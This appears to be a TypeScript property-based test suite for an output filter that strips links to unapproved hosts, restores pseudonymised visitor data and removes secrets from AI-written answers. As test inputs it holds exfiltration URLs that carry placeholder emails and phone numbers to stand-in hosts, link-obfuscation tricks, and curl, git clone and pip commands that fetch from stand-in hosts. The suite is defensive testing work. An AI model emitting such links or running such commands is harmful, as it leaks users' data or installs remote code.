import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { AnswerWriter } from "../../../src/answering/verify.ts";
import { linkPolicy, OutputFilter } from "../../../src/guards/output-filter.ts";
import { Pseudonyms } from "../../../src/privacy/pseudonyms.ts";
import { citedSource } from "../../support/cited-source.ts";
import { cutAt } from "../../support/cut.ts";
import { linksOutsideCode, refusedLinks, renderedLinks } from "../../support/rendered-links.ts";

const mayLinkTo = linkPolicy(
  ["docs.example.org", "*.example.net"],
  [{ url: "https://help.example.com/returns" }],
);

function filtered(text: string, pieces = [text]): string {
  const filter = new OutputFilter(mayLinkTo);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

const SPACES = [" ", "  ", "\n", "\n\n", "\t", "\u00A0", "\u3000", "\u2028"];
const INVISIBLE = ["\0", "\u200B", "\u00AD", "\u2060", "\u200D", "\uFE0F", "\u202E", "\uFEFF"];
const BLOCKS = ["    ", "- ", "> ", "# ", "1. "];
/** Parts of addresses and of what hides one from some readers and not from others. */
const FRAGMENTS =
  String.raw`https:// http:/ http:// ftp:// HTTPS:// https: :// // / \ \\ \/ \. \: \[ \( www. WWW. www www\. . .. intent: xmpp:
  evil.example evil.com evil.io evil.co.uk evil .com .io .example .net .md xn--e1afmkfd.xn--p1ai xn-- .xn--p1ai help.example.com
  docs.example.org a.example.net example.net help docs @ : :80 :8080 user@ user:pw@ joe@evil.com ? # ?a=b&c= & &amp; &#46; &#58; &period;
  &colon; &sol; &Tab; &NewLine; &lt; [ ] ( ) ]( ]: [a]: [a] ![ ![x]( [x]( < > <a <img <https:// </a> ' " ${"`"} * ** _ __ ~ ~~ | ^ $ + =
  % ; , ! - -- … 。 ． ｡ ｜ « » – ü é 你 好 🏳 evil。com [EMAIL_A] [PHONE_A] localhost [::1] 1.2.3.4 10.0.0.1/x javascript: data: mailto: tel:
  [joe@evil.com](mailto:joe@evil.com) [joe@evil.com ](mailto:joe@evil.com) README.md Node.js config.json 1.2.3 user.name ASP.NET a b x 1 { } /steal /a.b`.split(
    /\s+/,
  );
/** What is held back until more of it comes: markers, placeholders, halves of characters, keys. */
const MARKED = [
  "[1]",
  "[2]",
  "[1](",
  "[EMAIL_A]",
  "[EMAIL",
  "_A]",
  "¦",
  "【1†x】",
  "1",
  "]",
].concat(
  ["é", "🏳\uFE0F", "\uFE0F", "\u{E0141}", "\uD83D", "\uDE00", "葛\u{E0100}"],
  ["-----BEGIN ", "RSA PRIVATE KEY-----"],
);
const fragment = fc.constantFrom(...FRAGMENTS, ...SPACES, ...INVISIBLE, ...BLOCKS);
const noise = fc.string({ unit: "binary", maxLength: 3 });
const text = fc
  .oneof(
    { weight: 8, arbitrary: fc.array(fragment, { minLength: 1, maxLength: 14 }) },
    { weight: 1, arbitrary: fc.array(fc.oneof(fragment, noise), { maxLength: 12 }) },
  )
  .map((parts) => parts.join(""));

describe("a filtered answer", () => {
  it("is rendered without a link to a refused host, by any renderer", () => {
    fc.assert(
      fc.property(text, (whole) => {
        const shown = filtered(whole);
        expect(refusedLinks(shown, mayLinkTo), shown).toEqual([]);
      }),
      {
        numRuns: 1000,
        examples: [
          ["data:www.example.net\n"],
          ["`~~~|www.a.example.net``"],
          ["``~\\`|www.a.example.net`"],
          ["\uFE0Fdata:docs.example.org  "],
          ["evil.co.ukuser@1.2.3"],
          ["evil.co@a-.com evil.co@foo.zzzq evil.co@a.com/x evil.co@a.com:80 evil.co@a.com?x"],
          ["evil.co.uk**evil.co.uk@a.com evil.co.uk@a.com.🏳 \uFEFFevil.co.uk@a.com"],
          ["evil.co.uk@a.comevil.co.ukevil.co.uk"],
          ["https:www.docs.example.org?a=b&c=.xn--p1ai"],
          ["localhost:80801."],
          ["://docs.example.org#10.0.0.1/xhelp"],
          ["user:pw@1.2.3.evil.com\\: 1.2.3.4\\.example.net"],
          ["[::1]\u2060:xn--e1afmkfd.xn--p1ai&amp;"],
          ["docs.example.org:8080?a=b&c=evil.co.uk[x]("],
          ["user:pw@1.2.3.4.com.xn--p1ai"],
          ["🏳**docs.example.org"],
          ["🏳\uFE0F*docs.example.org"],
          ["❤*=*www.a.example.net"],
        ],
      },
    );
  }, 120_000);

  it("is the same however the stream is cut", () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(6), { maxLength: 40 }), (whole, sizes) => {
        expect(filtered(whole, cutAt(whole, sizes))).toBe(filtered(whole));
      }),
      { numRuns: 2000 },
    );
  });

  it("is the same however the stream is cut, with its citations checked and the visitor's data put back", () => {
    const passage = "You can return any item within 30 days of delivery.";
    const source = citedSource(passage);
    const pseudonyms = new Pseudonyms(["joe@mine.example"]);
    pseudonyms.hide("joe@mine.example");
    const model = {
      prompt: { mark: "¦", rules: "", messages: [] },
      pseudonyms,
      handoverRequested: false,
    };
    const written = (pieces: string[]): unknown => {
      const writer = new AnswerWriter([source], mayLinkTo, model);
      const shown = pieces.map((piece) => writer.push(piece)).join("") + writer.end();
      return [shown, writer.text, writer.citations];
    };
    const marked = fc.constantFrom(passage, ...MARKED);
    const answer = fc.array(fc.oneof(marked, fragment), { maxLength: 20 });
    fc.assert(
      fc.property(answer, fc.array(fc.nat(5), { maxLength: 60 }), (parts, sizes) => {
        const whole = parts.join("");
        expect(written(cutAt(whole, sizes))).toEqual(written([whole]));
      }),
      { numRuns: 2000 },
    );
  }, 120_000);

  it("is rendered without a link to a refused host when the visitor's data are put back", () => {
    const message = "I am joe@mine.example, +49 30 1234567.";
    const pseudonyms = new Pseudonyms([message]);
    expect(pseudonyms.hide(message)).toBe("I am [EMAIL_A], [PHONE_A].");
    const model = {
      prompt: { mark: "¦", rules: "", messages: [] },
      pseudonyms,
      handoverRequested: false,
    };
    const mayLink = (host: string): boolean => mayLinkTo(host) || host === "mine.example";
    const written = (answer: string, pieces: string[]): string => {
      const writer = new AnswerWriter([], mayLinkTo, model);
      return pieces.map((piece) => writer.push(piece)).join("") + writer.end();
    };
    for (const attack of [
      "www.(.evil.example/steal?[EMAIL_A]",
      "//evil.example/[EMAIL_A]",
      "[PHONE_A].evil.io/steal",
      "[PHONE_A].com",
      "https://evil.example/?q=[EMAIL_A]",
      "https://[PHONE_A].evil.example",
      "www.help.example.com[EMAIL_A]",
    ]) {
      const shown = written(attack, Array.from(attack));
      expect(refusedLinks(shown, mayLink), shown).toEqual([]);
    }
    fc.assert(
      fc.property(text, (whole) => {
        const shown = written(whole, [whole]);
        expect(refusedLinks(shown, mayLink), shown).toEqual([]);
      }),
      { numRuns: 500 },
    );
  }, 120_000);

  it.each([
    "www.(.evil.example/steal",
    "//evil.example/steal",
    "Go to //evil.example.",
    "evil.com and evil.io and evil.dev/x and evil.co.uk",
    "xn--80ak6aa92e.com xn--e1afmkfd.xn--p1ai https://xn--80ak6aa92e.com",
    "ev\u200Bil.com evil.\u200Bcom https://ev\u00ADil.example www\u2060.evil.example",
    "https://help.example.com。evil.io https://help.example.com．evil.io/x",
    "https://help.example.com:pw@evil.example https://help.example.com\\@evil.example",
    "https://help.example.com/a??evil.com https://help.example.com/_evil.com_",
    "https://help.example.com\u00A0.evil.io",
    "[x][1]\n\n[1]: //evil.example\n\n[2]\n: https://evil.example",
    "[x](/\\evil.example) [x](<//evil.example>) [x](\n//evil.example\n)",
    "1.2.3.4/steal 10.0.0.1 你evil.com 你help.example.com",
    "/docs.example.org?evil.com/steal #help.example.com?evil.de é/docs.example.org?evil.com",
    "/docs.example.org/evil.com/steal (/help.example.com#evil.com) :docs.example.org#evil.io/steal",
    "/docs.example.org/a?x=evil.com/steal https/docs.example.org#evil.com/x",
    "localhost:80@evil.com docs.example.org:80@evil.com (docs.example.org:80@evil.co.uk)",
    "file://2130706433/share ftps://3405803781/x smb://2130706433/x wss://3405803781/x",
    "data://text/html,x whatsapp://send?phone=1 intent://evil%2Ecom/x éfile://x éftps://1",
    "💩.la data:text/html,x intent://evil.example/#Intent;end",
  ])("holds no link to a refused host for %j", (attack) => {
    for (const shown of [filtered(attack), filtered(attack, Array.from(attack))])
      expect(refusedLinks(shown, mayLinkTo), shown).toEqual([]);
  });
});

describe("an answer with code that the sources hold", () => {
  const filteredAs = (whole: string, pieces: string[], isQuoted: (word: string) => boolean) => {
    const filter = new OutputFilter(mayLinkTo, isQuoted);
    return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
  };
  const CODE = [
    ..."` `` ``` ```` ~~~ ~~~~ ``~ | \\` \\ - 1. > # === --- a b https://evil.example www.evil.example evil.com <b> </b> [x](`a` ![` ] ) ](".split(
      " ",
    ),
    "\n",
    "\n",
    "\n",
    " ",
    " ",
    "   ",
    "    ",
    "\n\n",
    "\r",
    "\t",
    "\n```\n",
    "\n~~~\n",
    "\n  ```\n  ",
    "\n- ",
    "\n> ",
    "\n- a\n  ```\n  b\n  ```\n",
    "| a |\n| - |\n| `b | c` |\n",
    "`a` `b`",
    "`https://evil.example`",
    "https://docs.example.org/`",
    "www.a.example.net`",
    "joe`joe@docs.example.org",
    "[x](https://docs.example.org/`)",
    "~~",
    "*",
    "\n- a\n\n  ```\n  b\n```\n",
    "\n10. a\n    ```\n    b\n    ```\n",
    "\n\n10. a\n    - b\n      ```\n      c\n      ```\n",
    "\n    ```\n",
    "\n      ```\n      ",
    "\n10.",
    " a\n    ",
    "\n    - b\n",
    "\n> ```\n> b\n",
    "\n> ```\n",
  ];
  const code = fc
    .array(fc.constantFrom(...CODE), { minLength: 1, maxLength: 16 })
    .map((parts) => parts.join(""));

  it("has no link to a refused host outside code, whatever words the sources hold", () => {
    fc.assert(
      fc.property(code, (whole) => {
        const shown = filteredAs(whole, [whole], () => true);
        expect(refusedLinks(shown, mayLinkTo, linksOutsideCode(shown)), shown).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  }, 400_000);

  it("is the same however the stream is cut", () => {
    fc.assert(
      fc.property(code, fc.array(fc.nat(6), { maxLength: 40 }), (whole, sizes) => {
        const quoted = (word: string): boolean => word.length % 2 === 0;
        expect(filteredAs(whole, cutAt(whole, sizes), quoted)).toBe(
          filteredAs(whole, [whole], quoted),
        );
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    "- a\n\n  ```\n  b\n```\nc\n```\nhttps://evil.example\n```\n",
    "1. a\n   ~~~\n   b\n~~~\nc\n~~~\nhttps://evil.example\n",
    "https://docs.example.org/`a https://evil.example` b",
    "[a](https://docs.example.org/`b) https://evil.example` c",
    "<https://docs.example.org/`a> https://evil.example` b",
    "www.a.example.net`a https://evil.example` b",
  ])("takes no text for code that a renderer takes for none: %j", (answer) => {
    for (const pieces of [[answer], Array.from(answer)]) {
      const shown = filteredAs(answer, pieces, () => true);
      expect(refusedLinks(shown, mayLinkTo, linksOutsideCode(shown)), shown).toEqual([]);
    }
  });

  it.each([
    "Run `curl https://api.evil.example/v1?limit=5` or edit `setup.py`.",
    "Use ``wget https://evil.example`` here.",
    "`curl https://evil.example/v2 \\`\n  -H x",
    "1. Run:\n\n   ```bash\n   ssh <user>@evil.com\n   git clone https://evil.example/pump.git\n   ```\n\n2. Open `main.py`.",
    "```\npip install evil.io\n```\nThen `README.md`.",
  ])("keeps it as it is: %j", (answer) => {
    expect(filteredAs(answer, [answer], () => true)).toBe(answer);
    expect(filteredAs(answer, Array.from(answer), () => true)).toBe(answer);
  });

  it("quotes a command of a source with its address, and no other address", () => {
    const text = "Run `curl https://evil.example/install.sh` first. See https://evil.example/more.";
    const source = citedSource(text);
    const writer = new AnswerWriter([source], mayLinkTo);
    const shown = writer.push(`${text} \`https://evil.example/other\``) + writer.end();
    expect(shown).toBe(
      "Run `curl https://evil.example/install.sh` first. See ‹link removed›. `‹link removed›`",
    );
  });

  it("loses addresses in code that no source holds, and addresses outside code", () => {
    const answer = "`curl https://evil.example` https://evil.example/a `README.md`";
    const none = filteredAs(answer, [answer], () => false);
    expect(none).toBe("`curl ‹link removed›` ‹link removed› `README.\u2060md`");
    const all = filteredAs(answer, [answer], () => true);
    expect(all).toBe("`curl https://evil.example` ‹link removed› `README.md`");
  });
});

it("a credential behind a marker or a letter is removed, however the stream is cut", () => {
  const secret = `sk_${"a1b2".repeat(8)}`;
  for (const answer of [`[1]${secret}`, `密钥${secret}`, `AKIAIOSFODNN7EXAMPLE`]) {
    expect(filtered(answer)).toContain("‹secret removed›");
    expect(filtered(answer, Array.from(answer))).toBe(filtered(answer));
  }
});

describe("an ordinary answer", () => {
  it.each([
    "Open `help.example.com`, =help.example.com, |docs.example.org| or ‹a@b.org›.",
    "Open config.json, package-lock.json or index.html. Node.js 1.2.3 and v10.4.0 work, e.g. on C:\\Program Files\\App.exe.",
    "Mail admin.it@my-shop.co.uk? Or joe.smith+tag@my-shop.co.uk, (info@help.example.com) or support@pump.com.",
    "The price is 3.50€. Wait...what? Hmm.. ok!! No/yes; 1,000.50 and 5.000,00, 16:9, 12:30, a:b, i.e. U.S.A.",
    "Use `npm run build`, /usr/local/bin or ../a, *a\\_b*, C++/C#, f(x)=x^2, @home, 2026-11-29T12:00:00Z.",
    "- one\n- two\n\n```js\nconst x = list[0] + 1;\n```\n| a | b |\n|---|---|\n| 1 | 2 |",
    "请访问 https://help.example.com/x 查看。价格是3.5元，谢谢！",
    "See help.example.com[1], https://help.example.com/x[1], **https://docs.example.org/a?x=1&y=2&amp;z=3** and //help.example.com/returns.",
    "Read [the guide](https://docs.example.org/a/b) or (www.a.example.net/path_with_words).",
  ])("is shown unchanged: %j", (answer) => {
    expect(filtered(answer)).toBe(answer);
    expect(filtered(answer, Array.from(answer))).toBe(answer);
  });

  it("keeps its links to allowed hosts", () => {
    const answer = "[a](https://docs.example.org/a) https://help.example.com/x help.example.com/y";
    const targets = renderedLinks(filtered(answer)).map(({ target }) => target);
    expect(new Set(targets)).toEqual(
      new Set([
        "https://docs.example.org/a",
        "https://help.example.com/x",
        "http://help.example.com/y",
      ]),
    );
  });

  it("keeps the words of a name that linkers would take for a host, which is made inert", () => {
    const answer =
      "Ask Booking.com or imap.pump.com:993, edit README.md, run main.py, call console.info(user.name), use ASP.NET.It works.";
    const shown = filtered(answer);
    expect(shown.replaceAll("\u2060", "")).toBe(answer);
    expect(refusedLinks(shown, mayLinkTo)).toEqual([]);
  });
});
